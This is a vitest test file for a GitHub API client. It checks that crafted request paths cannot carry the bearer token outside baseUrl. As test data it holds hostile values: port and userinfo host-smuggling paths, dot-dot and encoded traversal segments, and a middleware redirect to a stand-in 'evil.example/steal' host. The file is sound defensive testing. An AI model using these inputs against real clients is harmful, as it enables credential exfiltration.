import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Client } from "openapi-fetch";
import { createClient, createPathClient, MACHINES } from "./fixtures/client.js";
import { json, recordingFetch, sendJson, startServer } from "./helpers.js";
import { useMiddleware } from "../src/middleware.js";

// Issue #10: the typed client appends the path it is given to baseUrl as a string, so a path
// that does not start with "/" can change the port or host (":8080/x", "@evil.example/x",
// ".evil.example/x") and "/.." can leave a GHES base path. Every request of the client must
// stay under baseUrl — the token goes nowhere else — and anything else is refused before sending.

const TOKEN = "ghp_BaseUrlT0kenValue0123456789abcdefXYZ";
type Untyped = Client<any>;

describe("a path that would leave baseUrl is refused before anything is sent", () => {
  it.each([
    { description: "a port", baseUrl: "https://api.github.com", path: ":8443/x" },
    { description: "userinfo (another host)", baseUrl: "https://api.github.com", path: "@evil.example/x" },
    { description: "a longer host name", baseUrl: "https://api.github.com", path: ".evil.example/x" },
    {
      description: "a dot-dot segment out of a GHES base path",
      baseUrl: "https://ghes.example/api/v3",
      path: "/../../admin",
    },
    { description: "an encoded dot-dot segment", baseUrl: "https://ghes.example/api/v3", path: "/%2e%2e/x" },
    { description: "a backslash dot-dot segment", baseUrl: "https://ghes.example/api/v3", path: "\\..\\x" },
    { description: "a sibling of the base path", baseUrl: "https://ghes.example/api/v3", path: "x/y" },
  ])("$description ($path under $baseUrl)", async ({ baseUrl, path }) => {
    const { fetch, requests } = recordingFetch(() => json(MACHINES));
    const gh = createPathClient(createClient({ fetch, baseUrl, token: TOKEN })) as unknown as Untyped;
    const error = await gh.GET(path, {}).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(TypeError);
    // A URL with userinfo never becomes a Request at all (the platform refuses it); every other
    // one reaches the client's check, which names the URL and baseUrl.
    if (path.startsWith("@")) expect((error as Error).message).toMatch(/credentials/);
    else
      expect((error as Error).message).toMatch(
        new RegExp(`^GET \\S+ is outside baseUrl ${baseUrl.replace(/[./]/g, "\\$&")}$`),
      );
    expect(requests).toHaveLength(0);
  });

  it("a per-call baseUrl elsewhere is refused the same way", async () => {
    const { fetch, requests } = recordingFetch(() => json(MACHINES));
    const gh = createPathClient(createClient({ fetch, token: TOKEN })) as unknown as Untyped;
    await expect(gh.GET("/user", { baseUrl: "https://evil.example" })).rejects.toThrow(/outside baseUrl/);
    expect(requests).toHaveLength(0);
  });

  it("a middleware that points the request elsewhere is refused the same way", async () => {
    const { fetch, requests } = recordingFetch(() => json(MACHINES));
    const gh = createClient({ fetch, token: TOKEN });
    useMiddleware(gh, { onRequest: ({ request }) => new Request("https://evil.example/steal", request) });
    await expect(gh.codespaceMachinesForAuthenticatedUser({ codespace_name: "cs" })).rejects.toThrow(/outside baseUrl/);
    expect(requests).toHaveLength(0);
  });

  it("the message redacts the token from the URL it names", async () => {
    const { fetch } = recordingFetch(() => json(MACHINES));
    const gh = createPathClient(createClient({ fetch, token: TOKEN })) as unknown as Untyped;
    const error = (await gh.GET(`.evil.example/x?t=${TOKEN}`, {}).catch((e: unknown) => e)) as Error;
    expect(error.message).toContain("evil.example/x?t=[REDACTED]");
    expect(error.message).not.toContain(TOKEN);
  });
});

describe("paths under baseUrl are sent (controls)", () => {
  it.each([
    { baseUrl: "https://api.github.com", path: "/user", want: "https://api.github.com/user" },
    { baseUrl: "https://api.github.com", path: "//user", want: "https://api.github.com//user" },
    { baseUrl: "https://ghes.example/api/v3", path: "/user", want: "https://ghes.example/api/v3/user" },
    { baseUrl: "https://ghes.example/api/v3", path: "/a/../user", want: "https://ghes.example/api/v3/user" },
  ])("$path under $baseUrl goes to $want", async ({ baseUrl, path, want }) => {
    const { fetch, requests } = recordingFetch(() => json(MACHINES));
    const gh = createPathClient(createClient({ fetch, baseUrl })) as unknown as Untyped;
    await gh.GET(path, {});
    expect(requests.map((r) => r.url)).toEqual([want]);
  });
});

describe("the reported case: a host-only baseUrl and ':PORT/x' (real servers)", () => {
  let api: Awaited<ReturnType<typeof startServer>>;
  let other: Awaited<ReturnType<typeof startServer>>;
  beforeAll(async () => {
    api = await startServer((_req, res) => sendJson(res, 200, MACHINES));
    other = await startServer((_req, res) => sendJson(res, 200, { stolen: true }));
  });
  afterAll(async () => {
    await api.close();
    await other.close();
  });

  it("the token is not sent to the other port", async () => {
    const port = new URL(other.baseUrl).port;
    // A host-only baseUrl on the default port, so that ":PORT" in the path picks the port.
    const gh = createPathClient(
      createClient({ baseUrl: "http://127.0.0.1", token: TOKEN, retry: false }),
    ) as unknown as Untyped;
    const error = await gh.GET(`:${port}/x`, {}).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(TypeError);
    expect(other.seen).toEqual([]);

    // The same client's own paths are still sent with the token (to a server we control).
    const local = createPathClient(
      createClient({ baseUrl: api.baseUrl, token: TOKEN, retry: false }),
    ) as unknown as Untyped;
    await expect(local.GET("/user/codespaces/cs/machines", {})).resolves.toMatchObject({ data: MACHINES });
    expect(api.seen.map((s) => s.headers.authorization)).toEqual([`Bearer ${TOKEN}`]);
  });
});
